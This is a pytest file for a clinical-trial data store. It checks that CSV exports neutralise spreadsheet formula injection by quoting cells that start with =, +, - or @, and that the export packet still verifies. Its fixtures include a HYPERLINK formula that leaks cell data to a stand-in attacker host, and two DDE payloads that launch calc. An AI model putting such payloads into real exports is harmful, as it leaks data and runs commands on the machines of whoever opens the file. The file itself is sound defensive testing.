"""No live formulas in any CSV the store writes (issue 15, point 9).

Free text that a spreadsheet would run (``=HYPERLINK(...)``, ``@SUM(...)``, ``+cmd``) is written
with a single quote in front in the audit trail and the SDTM datasets, while numbers (negative
ones included) stay numbers; the packet verifier writes the same bytes again and agrees.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from domain.account import Role
from infrastructure.bootstrap import Store
from infrastructure.identity.sponsor_key import open_sponsor_account
from infrastructure.packets.build import build_packet
from infrastructure.packets.verify import verify_packet
from projections.csv_file import as_written, csv_bytes, neutralised
from tests.conftest import PersonFactory, consent, eligibility, enrolment, screening

HYPERLINK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_FORMULA = "+1+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("-3", "-3"),
        ("-0.5", "-0.5"),
        ("12", "12"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("'=x", "''=x"),
        ("''-3", "'''-3"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_numbers_stay_numbers(
    cell: str, written: str
) -> None:
    assert neutralised(cell) == written
    assert as_written(written) == cell


def test_every_formula_start_is_quoted_in_the_file() -> None:
    rows = [{"a": start + "x", "b": "-7"} for start in "=+-@\t\r"]

    text = csv_bytes(["a", "b"], rows).decode("utf-8")
    read = list(csv.reader(io.StringIO(text, newline="")))

    assert [row[0] for row in read[1:]] == ["'" + start + "x" for start in "=+-@\t\r"]
    assert [row[1] for row in read[1:]] == ["-7"] * 6


def test_a_row_with_a_value_for_no_column_is_refused() -> None:
    with pytest.raises(ValueError, match="no column"):
        csv_bytes(["a"], [{"a": "1", "b": "2"}])


def adverse_event(term: str) -> dict[str, object]:
    return {
        "adverse_event": "AE-01",
        "term": term,
        "category": "other",
        "grade": 1,
        "serious": False,
        "seriousness": [],
        "relatedness_msc": "unlikely",
        "relatedness_ratg": "unlikely",
        "relatedness_cyclosporine": "possible",
        "expected": True,
        "onset_on": "2011-03-03",
        "learned_on": "2011-03-04",
        "outcome": "recovered",
        "resolved_on": "2011-03-05",
    }


def cells(data: bytes) -> list[str]:
    text = data.decode("utf-8").removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_formulas_typed_by_a_site_are_text_in_the_packets_csv_files_and_the_packet_verifies(
    sqlite_store: Store, person_in: PersonFactory
) -> None:
    store = sqlite_store
    open_sponsor_account(store.administration, store.settings)
    investigator = person_in(store, "inv1", role=Role.INVESTIGATOR)
    investigator.record(store, "RP-01", "Screened", screening())
    investigator.record(store, "RP-01", "ConsentObtained", {**consent(), "tcle_version": "+2.0"})
    investigator.record(store, "RP-01", "EligibilityAssessed", eligibility())
    investigator.record(store, "RP-01", "Enrolled", enrolment())
    investigator.record(
        store,
        "RP-01",
        "RatgDoseGiven",
        {"day": 1, "dose": {"value": "3.5", "unit": "mg/kg"}, "given_on": "2011-03-01"},
    )
    investigator.record(store, "RP-01", "AdverseEventReported", adverse_event(HYPERLINK))
    investigator.record(
        store,
        "RP-01",
        "EntryCorrected",
        {
            "entry": 6,
            "entry_kind": "AdverseEventReported",
            "changes": {"term": {"old": HYPERLINK, "new": "Nausea"}},
            "reason": AT_FORMULA,
        },
    )
    investigator.record(store, "RP-02", "Screened", screening(screened_on="2011-02-20"))
    investigator.record(
        store,
        "RP-02",
        "ScreenFailed",
        {"failed_on": "2011-02-21", "reason": PLUS_FORMULA},
    )

    packet = build_packet(store, documents=False)
    report = verify_packet(packet)

    assert report.findings == []
    with zipfile.ZipFile(io.BytesIO(packet)) as archive:
        written = {
            name: cells(archive.read(name)) for name in archive.namelist() if name.endswith(".csv")
        }
    assert any("audit" in name for name in written), sorted(written)
    everything = [cell for file_cells in written.values() for cell in file_cells]
    for formula in (HYPERLINK, AT_FORMULA, PLUS_FORMULA, "+2.0"):
        assert formula not in everything, formula
        assert "'" + formula in everything, formula
    live = [cell for cell in everything if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert live == []
    negatives = [cell for cell in everything if cell.startswith("-")]
    assert all(cell.lstrip("-").replace(".", "").isdigit() for cell in negatives), negatives
